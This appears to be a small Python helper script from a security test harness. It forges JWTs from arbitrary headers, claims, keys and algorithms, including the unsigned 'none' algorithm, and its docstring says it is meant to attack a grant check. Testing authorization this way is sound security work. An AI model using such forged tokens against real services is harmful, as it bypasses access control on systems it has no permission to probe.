#!/usr/bin/env python3
"""Mints a token with PyJWT from any header and claims, to attack the grant check.

Usage: mint_raw.py KEY ALG HEADER_JSON CLAIMS_JSON
ALG is a PyJWT algorithm name (HS256, HS512, none). In CLAIMS_JSON, "$now" + N in a number's
place is not JSON; instead the claims "iat_in" and "exp_in" are turned into iat/exp relative to now.
"""
import json
import sys
import time

import jwt

key, alg, header, claims = sys.argv[1], sys.argv[2], json.loads(sys.argv[3]), json.loads(sys.argv[4])
now = int(time.time())
for rel, name in (("iat_in", "iat"), ("exp_in", "exp")):
    if rel in claims:
        claims[name] = now + claims.pop(rel)
print(jwt.encode(claims, None if alg == "none" else key, algorithm=alg, headers=header))
